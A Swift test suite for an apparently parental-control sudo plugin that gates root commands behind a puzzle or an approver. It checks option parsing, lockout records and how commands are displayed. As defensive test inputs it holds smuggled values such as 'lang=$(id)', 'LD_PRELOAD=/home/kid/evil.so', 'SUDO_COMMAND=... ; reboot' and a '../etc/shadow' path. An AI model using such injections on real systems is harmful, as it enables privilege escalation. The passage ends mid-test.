// SudoJudgeTests.swift — the sudo judge's decisions without sudo: the Plugin line's
// options, who and what is gated, what the board must show, the verdict's denial line,
// sudo's time stamps, and root's lockout and grace records with an injected clock and a
// record folder of the test's own (never /run). The judge under the real sudo is in
// SudoPluginTests.

import ShapelyGate
import TestSupport
import Testing
@testable import ShapelyGateCLI
@testable import ShapelyGateJudge
@testable import ShapelyGatePolicy
@testable import ShapelyGateSession
import ShapelyGateScreen
import ShapelyGateSystem

#if canImport(Glibc)
import Glibc
#endif

@Suite struct DoorOptionsTests {
    @Test(arguments: [
        (["timout=5"], "unknown option 'timout' in the sudo.conf Plugin line; did you mean 'timeout'?"),
        (["=5"], "unknown option '=5' in the sudo.conf Plugin line"),
        (["users=root", "nonsense"], "unknown option 'nonsense' in the sudo.conf Plugin line"),
        (["timeout=0"], "invalid timeout=0: expected a whole number 1-3600"),
        (["timeout=3601"], "invalid timeout=3601: expected a whole number 1-3600"),
        (["attempts=two"], "invalid attempts=two: expected a whole number 1-99"),
        (["rounds=21"], "invalid rounds=21: expected a whole number 1-20"),
        (["cooldown=-1"], "invalid cooldown=-1: expected a whole number 0-86400"),
        (["shapes-per-kind=x3"], "invalid shapes-per-kind=x3: expected a whole number 1-9"),
        (["seed=99999999999999999999"], "invalid seed=99999999999999999999: expected a whole number 0-18446744073709551615"),
        (["kinds=1"], "invalid kinds=1: expected 2-9 or a list of shape names"),
        (["kinds=10"], "invalid kinds=10: expected 2-9 or a list of shape names"),
        (["kinds=circle"], "invalid kinds=circle: name at least two different shapes"),
        (["kinds=circle,circle"], "invalid kinds=circle,circle: name at least two different shapes"),
        (["board=big"], "invalid board=big: expected picture or words"),
        (["grace=86401"], "invalid grace=86401: expected a whole number 0-86400"),
        (["grace=+5"], "invalid grace=+5: expected a whole number 0-86400"),
        (["strings=/dev/null/none"], "option strings= names /dev/null/none, which does not exist"),
        (["lang=$(id)"], "invalid lang=$(id): expected a language code such as fr"),
        (["strict=yes"], "option strict takes no value"),
        (["timeout="], "option timeout= needs a value"),
        (["users"], "option users= needs a value"),
        (["users=root,,kid"], "option users= has an empty entry"),
        (["commands=/usr/bin/apt,"], "option commands= has an empty entry"),
        (["commands=apt"], "option commands= needs full paths, starting with /"),
        (["strings=strings/"], "option strings= needs a full path, starting with /"),
        (["users=no-such-user-here"], "option users= names an unknown user 'no-such-user-here'"),
        (["groups=no-such-group-here"], "option groups= names an unknown group 'no-such-group-here'"),
        (["lang=fr\u{1b}[2J"], "a plugin option holds a control character"),
        (["users=" + String(repeating: "a", count: 5000)], "a plugin option is longer than 4096 bytes"),
        // A second users= would take the first one's people out of the gate unseen.
        (["users=root", "timeout=20", "users=nobody"], "option users= is given twice: give each option once"),
        (["strict", "strict"], "option strict is given twice: give each option once"),
    ])
    func aBadOptionIsOneMessageNamingIt(options: [String], message: String) {
        #expect(throws: Refusal(message)) { try DoorOptions.parse(options) }
    }

    @Test func aShapeTheGateDoesNotKnowIsNamed() throws {
        let error = try #require(throws: Refusal.self) { try DoorOptions.parse(["kinds=circle,blob"]) }
        #expect(error.message.hasPrefix("invalid kinds=circle,blob: unknown shape 'blob'"))
    }

    @Test func everyGoodOptionIsKeptForTheGateInOrder() throws {
        let options = try DoorOptions.parse([
            "users=root,0", "groups=root,0", "commands=/usr/bin/apt,/usr/sbin/", "timeout=20", "attempts=1", "rounds=3",
            "shapes-per-kind=2", "kinds=circle,star", "strict", "cooldown=60", "lang=pt_BR.UTF-8", "strings=/",
            "path=/usr/local/bin/shapelygate", "seed=7", "grace=120", "board=words",
        ])
        #expect(options.users == ["root", "0"] && options.groups == ["root", "0"])
        #expect(options.commands == ["/usr/bin/apt", "/usr/sbin/"])
        #expect(options.path == "/usr/local/bin/shapelygate" && options.grace == 120)
        #expect(options.gateArguments == ["--timeout", "20", "--attempts", "1", "--rounds", "3", "--shapes-per-kind", "2",
                                          "--kinds", "circle,star", "--strict", "--cooldown", "60", "--lang", "pt_BR.UTF-8",
                                          "--strings", "/", "--seed", "7", "--board", "words"])
    }

    @Test func theNumberRangesAreTheGates() {
        let ranges = [("timeout", GateConfiguration.timeoutRange), ("attempts", GateConfiguration.attemptsRange),
                      ("rounds", GateConfiguration.roundsRange), ("shapes-per-kind", GateConfiguration.shapesPerKindRange),
                      ("cooldown", GateConfiguration.cooldownRange)]
        for (name, range) in ranges {
            for (value, accepted) in [(range.lowerBound, true), (range.upperBound, true),
                                      (range.lowerBound - 1, false), (range.upperBound + 1, false)] {
                #expect(((try? DoorOptions.parse(["\(name)=\(value)"])) != nil) == accepted, "\(name)=\(value)")
            }
        }
    }

    @Test func theGraceWindowIsCappedAndStrictTurnsItOffUnlessThePolicySaysOtherwise() {
        #expect(SudoJudgement.window(grace: 600, strict: false, maxGrace: nil) == 300)
        #expect(SudoJudgement.window(grace: 600, strict: false, maxGrace: 900) == 600)
        #expect(SudoJudgement.window(grace: 600, strict: false, maxGrace: 60) == 60)
        #expect(SudoJudgement.window(grace: 600, strict: true, maxGrace: nil) == 0)
        #expect(SudoJudgement.window(grace: 600, strict: true, maxGrace: 120) == 120)
        #expect(SudoJudgement.window(grace: 0, strict: false, maxGrace: 900) == 0)
    }
}

@Suite struct PersonMatchTests {
    func match(_ options: [String]) throws -> PersonMatch {
        var match = PersonMatch(options: DoorOptions(users: options.filter { !$0.hasPrefix("%") },
                                                      groups: options.filter { $0.hasPrefix("%") }.map { String($0.dropFirst()) }))
        match.passwd = "root:x:0:0::/root:/bin/sh\nkid:x:1000:1000::/home/kid:/bin/sh\n"
        match.group = "root:x:0:\nkids:x:2000:kid\n"
        return match
    }

    @Test func withNeitherUsersNorGroupsEveryoneIsGated() throws {
        #expect(try match([]).gates(user: "anyone", uid: 4321, gid: 4321, groups: []))
    }

    @Test func aUserIsGatedByNameUidPrimaryOrSupplementaryGroup() throws {
        #expect(try match(["kid"]).gates(user: "kid", uid: 1000, gid: 1000, groups: []))
        #expect(try match(["kid"]).gates(user: "renamed", uid: 1000, gid: 1000, groups: []))
        #expect(try match(["1000"]).gates(user: "kid", uid: 1000, gid: 1000, groups: []))
        #expect(try match(["%kids"]).gates(user: "kid", uid: 1000, gid: 1000, groups: [1000, 2000]))
        #expect(try match(["%2000"]).gates(user: "other", uid: 1001, gid: 2000, groups: []))
        #expect(try !match(["kid", "%kids"]).gates(user: "mum", uid: 1002, gid: 1002, groups: [1002]))
    }

    @Test func aNameThatVanishedCountsAsAMatch() throws {
        #expect(try match(["gone"]).gates(user: "mum", uid: 1002, gid: 1002, groups: []))
        #expect(try match(["%gone"]).gates(user: "mum", uid: 1002, gid: 1002, groups: []))
    }

    @Test func aCommandIsGatedUnderAListedFolderOrAsTheSameFile() throws {
        let folder = temporaryFolder()
        mkdir(folder + "/bin", 0o755)
        writeFile(folder + "/bin/tool", "")
        symlink(folder + "/bin", folder + "/link")
        let match = PersonMatch(options: DoorOptions(commands: [folder + "/bin/"]))
        #expect(match.gates(command: folder + "/bin/tool"))
        #expect(match.gates(command: folder + "/link/tool"))
        #expect(!match.gates(command: folder + "/binary"))
        #expect(!match.gates(command: "/usr/bin/true"))
        #expect(match.gates(command: "relative"))
        #expect(match.gates(command: nil))
        let byFile = PersonMatch(options: DoorOptions(commands: [folder + "/link/tool"]))
        #expect(byFile.gates(command: folder + "/bin/tool"))
    }
}

@Suite struct SudoShownCommandTests {
    static let passwd = """
        root:x:0:0:root:/root:/bin/bash
        kid:x:1000:1000::/home/kid:/bin/bash
        bob:x:1001:1001::/home/bob:/bin/sh

        """
    static let group = "root:x:0:\nkid:x:1000:\nbob:x:1001:\nstaff:x:50:bob\n"
    /// Root's folders: what the tests call trusted, with no file system looked at.
    static let world = SudoShownCommand.World(passwd: passwd, group: group,
                                              trustedFolder: { ["/usr/sbin", "/usr/bin", "/sbin", "/bin"].contains($0) })

    /// What sudo 1.9 hands a command kid runs as root under env_reset, and `more`.
    static func environment(for account: (name: String, home: String, shell: String) = ("root", "/root", "/bin/bash"),
                            command: String, _ more: [String] = []) -> [String] {
        ["TERM=xterm-256color", "LANG=en_US.UTF-8", "PATH=/usr/sbin:/usr/bin:/sbin:/bin", "MAIL=/var/mail/\(account.name)",
         "LOGNAME=\(account.name)", "USER=\(account.name)", "HOME=\(account.home)", "SHELL=\(account.shell)",
         "SUDO_COMMAND=\(command)", "SUDO_USER=kid", "SUDO_UID=1000", "SUDO_GID=1000"] + more
    }

    func facts(_ argv: [String], info: [String: String] = [:], environment more: [String] = [],
               runEnvironment: [String]? = nil) -> SudoFacts {
        var facts = SudoFacts()
        facts.runArguments = argv
        facts.commandInfo = ["command": argv.first ?? "", "runas_uid": "0", "runas_gid": "0", "cwd": "/home/kid",
                             "closefrom": "3"].merging(info) { $1 }
        facts.userInfo = ["cwd": "/home/kid", "user": "kid", "uid": "1000", "gid": "1000"]
        facts.runEnvironment = runEnvironment ?? Self.environment(command: argv.joined(separator: " "), more)
        return facts
    }

    func shown(_ facts: SudoFacts) -> SudoShownCommand.Shown { SudoShownCommand.shown(facts, world: Self.world) }

    @Test func aPlainCommandIsItsWordsAndWhatSudoKeepsByDefaultIsNamed() {
        let plain = shown(facts(["/usr/bin/apt", "install", "cowsay"]))
        #expect(plain.text == "/usr/bin/apt install cowsay (keeps LANG TERM)")
        #expect(plain.kept == ["LANG", "TERM"] && plain.unshowable.isEmpty)
    }

    @Test func whatSudoSetsItselfIsNotShown() {
        // The run-as account's HOME, USER, LOGNAME, SHELL and MAIL; the person's SUDO_*.
        let bob = facts(["/usr/bin/id"], info: ["runas_uid": "1001", "runas_gid": "1001"],
                        runEnvironment: Self.environment(for: ("bob", "/home/bob", "/bin/sh"), command: "/usr/bin/id"))
        #expect(shown(bob).text == "-u bob /usr/bin/id (keeps LANG TERM)")
    }

    @Test(arguments: [
        // -E, --preserve-env=… in any spelling, VAR=… and env_keep+= all end in run_envp.
        ("LD_PRELOAD=/home/kid/evil.so", "LD_PRELOAD=/home/kid/evil.so"),
        ("APT_CONFIG=/tmp/x/apt.conf", "APT_CONFIG=/tmp/x/apt.conf"),
        ("BASH_ENV=$(id)", "'BASH_ENV=$(id)'"),
        // What sudo sets, with another value than sudo's own, is the person's.
        ("HOME=/home/kid", "HOME=/home/kid"),
        ("SUDO_USER=mum", "SUDO_USER=mum"),
        ("PATH=/home/kid/bin:/usr/bin", "PATH=/home/kid/bin:/usr/bin"),
        ("PATH=/usr/bin:", "PATH=/usr/bin:"),
        ("PATH=usr/bin", "PATH=usr/bin"),
        // A PATH through /proc/self/cwd leads to the person's own folder for the command.
        ("PATH=/proc/self/cwd:/usr/bin", "PATH=/proc/self/cwd:/usr/bin"),
        // sudo's default list, with a value that may name a file or hold a format.
        ("TZ=/home/kid/x", "TZ=/home/kid/x"),
        ("LANGUAGE=../../../home/kid/l", "LANGUAGE=../../../home/kid/l"),
        ("XAUTHORITY=/home/kid/.Xauthority", "XAUTHORITY=/home/kid/.Xauthority"),
        ("LC_TIME=%n%n", "LC_TIME=%n%n"),
        // SUDO_COMMAND given on the command line wins over sudo's own.
        ("SUDO_COMMAND=/usr/bin/apt update; reboot", "'SUDO_COMMAND=/usr/bin/apt update; reboot'"),
    ])
    func aVariableThePersonChoseIsShownWithItsValue(entry: String, word: String) {
        var facts = facts(["/usr/bin/apt", "update"])
        let name = entry.prefix { $0 != "=" }
        facts.runEnvironment = facts.runEnvironment.filter { !$0.hasPrefix(name + "=") } + [entry]
        #expect(shown(facts).text == "\(word) /usr/bin/apt update (keeps LANG TERM)")
    }

    @Test func sudosDefaultListIsNamedNeverSpeltOut() {
        let kept = shown(facts(["/usr/bin/id"], environment: ["DISPLAY=:0", "TZ=UTC", "LS_COLORS=di=01;34", "LC_ALL=C"]))
        #expect(kept.text == "/usr/bin/id (keeps DISPLAY LANG LC_ALL LS_COLORS TERM TZ)")
    }

    @Test func everyOptionIsReadFromCommandInfo() {
        let all = shown(facts(["/usr/bin/id"], info: ["runas_uid": "1001", "runas_gid": "50", "cwd": "/srv", "chroot": "/jail",
                                                      "preserve_groups": "true", "closefrom": "5"],
                              runEnvironment: Self.environment(for: ("bob", "/home/bob", "/bin/sh"), command: "/usr/bin/id")))
        // Under another root folder PATH is shown: the judge cannot look where the command will.
        #expect(all.text == "-P -C 5 -u bob -g staff -D /srv -R /jail PATH=/usr/sbin:/usr/bin:/sbin:/bin /usr/bin/id (keeps LANG TERM)")
        // The run-as user's own group is no -g; sudo's default closefrom=3 is no -C.
        let own = shown(facts(["/usr/bin/id"], info: ["runas_uid": "1001", "runas_gid": "1001"],
                              runEnvironment: Self.environment(for: ("bob", "/home/bob", "/bin/sh"), command: "/usr/bin/id")))
        #expect(own.words == ["-u", "bob", "/usr/bin/id"])
    }

    @Test func anotherUserWithoutANameIsShownByNumber() {
        #expect(shown(facts(["/usr/bin/id"], info: ["runas_uid": "4242", "runas_gid": "4242"])).words.prefix(4)
                == ["-u", "#4242", "-g", "#4242"])
    }

    @Test func aControlByteIsWrittenSoOneLineNeverReadsAsTwo() {
        let text = shown(facts(["/bin/sh", "-c", "apt install cowsay\nid > /tmp/x"], environment: ["A=1\u{1B}[2J"])).text
        #expect(text == "$'A=1\\x1b[2J' /bin/sh -c $'apt install cowsay\\nid > /tmp/x' (keeps LANG TERM)")
    }

    @Test func aVariableThatCannotBeShownWholeIsNamed() {
        var odd = facts(["/usr/bin/id"], environment: ["NOEQUALS"])
        odd.unshowableVariables = ["LD_LIBRARY_PATH"]
        odd.runEnvironment.append("LD_LIBRARY_PATH=\u{FFFD}")
        #expect(shown(odd).unshowable == ["NOEQUALS", "LD_LIBRARY_PATH"])
    }

    @Test func sudoeditShowsTheFilesRootWrites() {
        let edit = facts(["/usr/bin/vi", "--", "/etc/motd"], info: ["sudoedit": "true"], environment: ["EDITOR=/tmp/x"])
        #expect(shown(edit).text == "sudoedit /etc/motd")
    }

    /// sudo cuts SUDO_COMMAND's arguments at 4096 bytes, in a character if it must.
    @Test func sudosOwnSudoCommandIsItsOwnThoughCut() {
        let long = String(repeating: "é", count: 3000)
        var cut = facts(["/usr/bin/touch", long], runEnvironment: [])
        let bytes = Array("/usr/bin/touch ".utf8) + Array(long.utf8).prefix(4096)
        cut.runEnvironment = ["SUDO_COMMAND=" + String(decoding: bytes, as: UTF8.self)]
        cut.unshowableVariables = ["SUDO_COMMAND"]
        #expect(shown(cut).unshowable.isEmpty && shown(cut).words == ["/usr/bin/touch", long])
        cut.runEnvironment = ["SUDO_COMMAND=/usr/bin/touch " + long]
        cut.unshowableVariables = []
        #expect(shown(cut).words.first?.hasPrefix("SUDO_COMMAND=") == true, "not what sudo writes")
    }

    @Test func twoSpellingsOfOneFolderAreTwoFolders() {
        // U+00E9 and e with U+0301 read alike and compare equal as Swift strings.
        var moved = facts(["/usr/bin/id"], info: ["cwd": "/home/kid/caf\u{E9}"])
        moved.userInfo["cwd"] = "/home/kid/cafe\u{301}"
        #expect(shown(moved).words.prefix(2) == ["-D", "/home/kid/caf\u{E9}"])
    }

    @Test func underAnotherRootFolderPathIsShown() {
        let jailed = shown(facts(["/usr/bin/id"], info: ["chroot": "/jail"]))
        #expect(jailed.words.contains("PATH=/usr/sbin:/usr/bin:/sbin:/bin"), "\(jailed.words)")
    }

    @Test func aFolderUnderProcOrDevIsNeverRoots() {
        for path in ["/proc/self/cwd", "/proc/thread-self/cwd", "/proc/1/root/usr/bin", "/dev/fd/3", "/proc"] {
            #expect(!Platform.isRootsFolder(path), "\(path)")
        }
    }

    @Test func aFolderNoOneHasMadeInRootsFolderIsRoots() throws {
        var info = stat()
        try #require(stat("/", &info) == 0 && info.st_uid == 0 && info.st_mode & 0o022 == 0, "/ is root's here")
        #expect(Platform.isRootsFolder("/shapelygate-no-such-folder-\(getpid())/bin"))
        let folder = temporaryFolder()
        #expect(!Platform.isRootsFolder(folder + "/not-yet"), "one the person could make")
    }

    @Test func aFolderInsideOneAnyoneCanWriteIsNotRoots() throws {
        var info = stat()
        try #require(stat("/", &info) == 0 && info.st_uid == 0 && info.st_mode & 0o022 == 0, "/ is root's here")
        #expect(Platform.isRootsFolder("/"))
        let folder = temporaryFolder()
        defer { rmdir(folder) }
        #expect(!Platform.isRootsFolder(folder), "a folder of the test's own, in a folder anyone can write")
        #expect(!Platform.isRootsFolder("relative/bin") && !Platform.isRootsFolder("/usr/./bin") && !Platform.isRootsFolder("/usr/../tmp"))
    }
}

@Suite struct SudoVerdictTests {
    @Test func aDenialLineReadsBack() {
        let denial = Verdict.Denial(outcome: .denied(.timeExpired), progress: AuditProgress(rounds: 1, wrong: 2))
        #expect(denial.line == "shapelygate: denied reason=time-expired rounds=1 wrong=2\n")
        #expect(Verdict.Denial(parsing: Array(denial.line.utf8)) == denial)
        #expect(Verdict.Denial(parsing: Array("shapelygate: denied reason=SIGINT rounds=0 wrong=0\n".utf8))?.outcome == .interrupted(Interruption(SIGINT)))
    }

    @Test(arguments: ["shapelygate: passed\n", "shapelygate: denied reason=a b rounds=0 wrong=0\n",
                      "shapelygate: denied reason=x\u{1b}[2J rounds=0 wrong=0\n", "shapelygate: denied reason=x rounds=99999 wrong=0\n",
                      "shapelygate: denied reason=x rounds=0 wrong=0", "shapelygate: denied reason=x rounds=0 wrong=0 extra=1\n"])
    func anythingElseIsNoDenialLine(_ text: String) {
        #expect(Verdict.Denial(parsing: Array(text.utf8)) == nil)
    }
}

@Suite struct SudoTicketTests {
    /// One record as sudoers writes it (version 2, 56 bytes, little-endian).
    func record(type: UInt16, flags: UInt16, device: UInt64) -> [UInt8] {
        var bytes = [UInt8](repeating: 0, count: 56)
        for (offset, value) in [(0, UInt16(2)), (2, UInt16(56)), (4, type), (6, flags)] {
            bytes[offset] = UInt8(value & 0xFF)
            bytes[offset + 1] = UInt8(value >> 8)
        }
        for index in 0..<8 { bytes[48 + index] = UInt8((device >> (8 * UInt64(index))) & 0xFF) }
        return bytes
    }

    @Test func aTerminalsRecordCountsOnlyWhileItIsNotDisabled() {
        let lock = record(type: 4, flags: 0, device: 0)
        #expect(SudoTicket.state(records: lock + record(type: 2, flags: 0, device: 0x8803), device: 0x8803) == .enabled)
        #expect(SudoTicket.state(records: lock + record(type: 2, flags: 1, device: 0x8803), device: 0x8803) == .none)
        #expect(SudoTicket.state(records: lock + record(type: 2, flags: 0, device: 0x8804), device: 0x8803) == .none)
        #expect(SudoTicket.state(records: record(type: 1, flags: 0, device: 0), device: 0x8803) == .enabled)
        #expect(SudoTicket.state(records: [], device: 0x8803) == .none)
        #expect(SudoTicket.state(records: Array(record(type: 2, flags: 0, device: 0x8803).prefix(30)), device: 0x8803) == .none)
    }
}

/// Root's records in a folder of the test's own, with a clock the test moves.
final class RecordsClock: @unchecked Sendable {
    var wall = 1_000_000.0
    var boot = 500.0
    func clocks() -> Clocks { Clocks(wall: wall, boot: boot, bootID: "boot-a") }
    func pass(_ seconds: Double) {
        wall += seconds
        boot += seconds
    }
}

extension PersonRecords.LockoutCheck {
    var isOpen: Bool {
        if case .open = self { return true }
        return false
    }
}

@Suite struct PersonRecordsTests {
    let clock = RecordsClock()
    let base = temporaryFolder()
    var records: PersonRecords { PersonRecords(uid: 1000, folder: base, clocks: clock.clocks, boot: { self.clock.boot }) }
    let key = PersonRecords.SessionKey(device: 0x8803, text: "session=42 start=7 boot=boot-a")

    @Test func aGateIsCountedBeforeItRunsAndAPassClearsTheCount() {
        #expect(records.check(cooldown: 60).isOpen)
        #expect(records.check(cooldown: 60) == .locked(seconds: 60))
        records.settleGate(passed: true, cooldown: 60)
        #expect(records.check(cooldown: 60).isOpen)
    }

    @Test func aDenialLocksFromItsEndAndDoubles() {
        #expect(records.check(cooldown: 60).isOpen)
        clock.pass(50)
        records.settleGate(passed: false, cooldown: 60)
        clock.pass(59)
        #expect(records.check(cooldown: 60) == .locked(seconds: 1))
        clock.pass(1)
        #expect(records.check(cooldown: 60).isOpen)
        records.settleGate(passed: false, cooldown: 60)
        #expect(records.check(cooldown: 60) == .locked(seconds: 120))
    }

    @Test func aRunThatShowedNoBoardPutsTheCountBack() {
        #expect(records.check(cooldown: 60).isOpen)
        clock.pass(60)
        records.settleGate(passed: false, cooldown: 60)
        clock.pass(120)
        guard case .open(let before) = records.check(cooldown: 60) else { Issue.record("locked"); return }
        #expect(before?.denials == 1)
        records.restore(before)
        #expect(records.check(cooldown: 60) == .open(before: before))
    }

    @Test func aRecordThatCannotBeTrustedDenies() {
        #expect(records.check(cooldown: 60).isOpen)
        writeFile(base + "/1000/lockout", "denials 0\n", mode: 0o600)
        #expect(records.check(cooldown: 60) == .untrusted("\(base)/1000/lockout: not a lockout record"))
        unlink(base + "/1000/lockout")
        symlink("/etc/hostname", base + "/1000/lockout")
        #expect(records.check(cooldown: 60) == .untrusted("\(base)/1000/lockout: it is a symbolic link"))
    }

    @Test func aPassAtTheBoardOpensTheWindowOnThatSessionOnly() {
        #expect(!records.graceCovers(key, window: 300, ticket: .none).covers)
        records.settleGrace(key, passedAtBoard: true, ticket: .none)
        clock.pass(300)
        #expect(records.graceCovers(key, window: 300, ticket: .none).covers)
        #expect(!records.graceCovers(PersonRecords.SessionKey(device: 0x8803, text: "session=43 start=7 boot=boot-a"),
                                     window: 300, ticket: .none).covers)
        #expect(!records.graceCovers(PersonRecords.SessionKey(device: 0x8804, text: key.text), window: 300, ticket: .none).covers)
        clock.pass(1)
        #expect(!records.graceCovers(key, window: 300, ticket: .none).covers)
    }

    @Test func aDenialEndsTheWindow() {
        records.settleGrace(key, passedAtBoard: true, ticket: .none)
        records.settleGrace(key, passedAtBoard: false, ticket: .none)
        #expect(!records.graceCovers(key, window: 300, ticket: .none).covers)
    }

    @Test func sudoKillingItsTimeStampEndsAWindowThatHadOne() {
        records.settleGrace(key, passedAtBoard: true, ticket: .enabled)
        #expect(records.graceCovers(key, window: 300, ticket: .enabled).covers)
        #expect(!records.graceCovers(key, window: 300, ticket: .none).covers)
    }

    @Test func aClockThatWentBackOpensNothing() {
        records.settleGrace(key, passedAtBoard: true, ticket: .none)
        clock.boot -= 10
        #expect(!records.graceCovers(key, window: 300, ticket: .none).covers)
    }

    @Test func theGraceRecordReadsBackAndRefusesAnythingElse() {
        let record = GraceRecord(session: key.text, passedAt: 512.5, ticketKept: true)
        #expect(GraceRecord(record.text) == record)
        #expect(GraceRecord("session=1 at=5 ticket=maybe\n") == nil)
        #expect(GraceRecord("session=1 at=nan ticket=no\n") == nil)
        #expect(GraceRecord("session=1 at=5 ticket=no") == nil)
    }
}

@Suite struct RootSettingsTests {
    @Test func rootsOwnFileIsInRootsHomeWhateverTheEnvironmentSays() {
        let environment = ["HOME": "/home/kid", "XDG_CONFIG_HOME": "/home/kid/.config"]
        #expect(ConfigFile.userPath(environment, user: 0, rootHome: { "/root" }) == "/root/.config/shapelygate/config")
        #expect(ConfigFile.userPath(environment, user: 0, rootHome: { nil }) == nil)
        #expect(ConfigFile.userPath(environment, user: 1000) == "/home/kid/.config/shapelygate/config")
    }
}

@Suite struct SudoConfReadingTests {
    @Test func onlyThisPluginsLinesAreReadWithTheirNumbersAndOptions() {
        let text = """
            # Plugin shapelygate_approval /commented/out.so
            Path plugin_dir /usr/lib/sudo
            Plugin sudoers_policy sudoers.so
            Plugin shapelygate_approval shapelygate_approval.so\tusers=kid  timeout=20 # the child
            Plugin shapelygate_approval
            """
        let (folder, lines) = SudoConfCheck.read(text)
        #expect(folder == "/usr/lib/sudo")
        #expect(lines == [.init(number: 4, file: "shapelygate_approval.so", options: ["users=kid", "timeout=20"]),
                          .init(number: 5, file: "", options: [])])
        #expect(SudoConfCheck.read("").folder == "/usr/libexec/sudo")
    }

    @Test func aLineWithoutAFileOrWithAnUnknownFileIsAProblem() {
        let check = SudoConfCheck(path: "/x")
        #expect(check.pluginFileProblem("", folder: "/usr/lib") == "the Plugin line names no file")
        #expect(check.pluginFileProblem("nothing-here.so", folder: "/nonexistent-folder")?.hasPrefix("/nonexistent-folder/nothing-here.so: ") == true)
    }
}

@Suite struct ApprovalPolicyTests {
    let passwd = "root:x:0:0::/root:/bin/sh\nkid:x:2001:100::/home/kid:/bin/sh\nmum:x:2002:100::/home/mum:/bin/sh\n"
        + "dad:x:2004:2010::/home/dad:/bin/sh\nstranger:x:2003:100::/:/bin/sh\n"
    let group = "users:x:100:\nparents:x:2010:mum\n"

    func approvers(_ text: String) throws -> Approvers {
        try Approvers.parse(text, passwd: passwd, group: group)
    }

    @Test func anApproverIsListedByNameIDOrGroupAndNeverTheRequester() throws {
        #expect(try approvers("mum").admit(2002, requester: 2001, passwd: passwd, group: group))
        #expect(try approvers("2002").admit(2002, requester: 2001, passwd: passwd, group: group))
        #expect(try approvers("%parents").admit(2002, requester: 2001, passwd: passwd, group: group))
        #expect(try approvers("%parents").admit(2004, requester: 2001, passwd: passwd, group: group), "a primary group")
        #expect(try approvers("%2010").admit(2004, requester: 2001, passwd: passwd, group: group))
        #expect(try !approvers("mum,%parents").admit(2003, requester: 2001, passwd: passwd, group: group))
        #expect(try !approvers("mum,kid").admit(2001, requester: 2001, passwd: passwd, group: group), "the requester itself")
        #expect(try approvers("mum").admit(0, requester: 2001, passwd: passwd, group: group), "root")
        #expect(try !approvers("mum").admit(0, requester: 0, passwd: passwd, group: group), "root asking for itself")
    }

    @Test(arguments: [("nobody-here", "names an unknown user 'nobody-here'"),
                      ("%nogroup-here", "names an unknown group 'nogroup-here'"),
                      ("mum,,dad", "has an empty entry"), ("%", "has an empty entry")])
    func anUnknownNameOrAnEmptyEntryIsRefused(_ value: String, _ reason: String) {
        #expect(throws: WordProblem.option(reason)) { try approvers(value) }
    }

    @Test func theModesAndTheTimeoutAreChecked() throws {
        #expect(try DoorOptions.parse(["approval=either"]).approval == .either)
        #expect(throws: Refusal("invalid approval=maybe: expected board, parent, either or both")) {
            try DoorOptions.parse(["approval=maybe"])
        }
        #expect(try DoorOptions.parse(["approval-timeout=300"]).approvalTimeout == 300)
        #expect(throws: Refusal("invalid approval-timeout=0: expected a whole number 1-86400")) {
            try DoorOptions.parse(["approval-timeout=0"])
        }
        #expect(DoorOptions.approvalProblem(ApprovalSettings(mode: .parent), policyFile: "/etc/shapelygate.conf")
                == "approval=parent needs approvers=, on the Plugin line or in /etc/shapelygate.conf")
        #expect(DoorOptions.approvalProblem(ApprovalSettings(mode: .board), policyFile: "/x") == nil)
    }

    @Test func whoMayApproveReadsAsASentence() throws {
        #expect(try approvers("mum").description == "mum")
        #expect(try approvers("mum,dad,%parents").description == "mum, dad or the group parents")
    }

    @Test func requestIDsAreEightCharactersWithoutLookAlikes() {
        var generator = SplitMix64(seed: 7)
        let ids = (0..<200).map { _ in ApprovalRequest.newID(using: &generator) }
        #expect(ids.allSatisfy(ApprovalRequest.isID))
        #expect(Set(ids).count == ids.count)
        #expect(!ids.joined().contains { "01ILO".contains($0) })
        #expect(!ApprovalRequest.isID("ABCDEFG1") && !ApprovalRequest.isID("abcdefgh") && !ApprovalRequest.isID("ABCDEFG"))
    }
}

/// utmp as who(1) reads it, and a message on a terminal as write(1) leaves one.
@Suite struct ApproverNoticeTests {
    /// One glibc utmp record: the type at 0, the line at 8, the user at 44, 384 bytes.
    func record(type: Int16, line: String, user: String) -> [UInt8] {
        var bytes = [UInt8](repeating: 0, count: 384)
        bytes[0] = UInt8(type & 0xFF)
        bytes[1] = UInt8(type >> 8)
        for (index, byte) in line.utf8.enumerated() { bytes[8 + index] = byte }
        for (index, byte) in user.utf8.enumerated() { bytes[44 + index] = byte }
        return bytes
    }

    func utmp(_ records: [[UInt8]]) -> String {
        let path = temporaryFolder() + "/utmp"
        let fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0o644)
        let bytes = records.flatMap { $0 }
        _ = bytes.withUnsafeBytes { write(fd, $0.baseAddress, $0.count) }
        close(fd)
        return path
    }

    @Test func onlyUserProcessesOnTerminalLinesAreLoggedIn() {
        let path = utmp([record(type: 7, line: "pts/9", user: "mum"), record(type: 8, line: "pts/8", user: "gone"),
                         record(type: 7, line: "../etc/shadow", user: "kid"), record(type: 7, line: "tty2", user: "dad"),
                         record(type: 6, line: "tty3", user: "LOGIN")])
        let found = Platform.loggedIn(utmp: path).map { "\($0.user)@\($0.line)" }
        #expect(found == ["mum@pts/9", "dad@tty2"])
        #expect(Platform.loggedIn(utmp: "/nonexistent/utmp").isEmpty)
    }

    @Test func aMessageReachesOnlyATerminalItsOwnerLetsBeWritten() throws {
        let (master, slave) = openPseudoTerminal()
        defer { close(master) }
        var info = stat()
        try #require(stat(slave, &info) == 0)
        #expect(!Platform.writeToTerminal(slave, owner: info.st_uid &+ 1, "not for you\n"), "another owner's terminal")
        chmod(slave, 0o600)
        #expect(!Platform.writeToTerminal(slave, owner: info.st_uid, "mesg n\n"), "messages off")
        chmod(slave, 0o620)
        #expect(Platform.writeToTerminal(slave, owner: info.st_uid, "mesg y\n"))
        let file = temporaryFile("plain\n")
        #expect(!Platform.writeToTerminal(file, owner: geteuid(), "x"), "not a terminal")
        var buffer = [UInt8](repeating: 0, count: 64)
        let count = buffer.withUnsafeMutableBytes { read(master, $0.baseAddress, $0.count) }
        #expect(String(decoding: buffer.prefix(max(0, count)), as: UTF8.self).contains("mesg y"))
    }
}

@Suite struct SudoDoorAgreementTests {
    /// What both languages must know and the protocol's header cannot say: (PAM) the
    /// longest text the conversation carries, which the judge cuts to.
    @Test func thePamMessageSizeIsTheJudgesCut() {
        let abi = readText(packageRoot + "/Sources/CShapelyGatePam/include/pam_module_abi.h")
        #expect(abi.contains("#define PAM_MAX_MSG_SIZE \(PamConversation.longest + 1)"))
    }
}

@Suite struct ApprovalTextTests {
    @Test func paddingCannotPushACommandOffAnApproversScreen() {
        let padding = String(repeating: " ", count: 11_950)
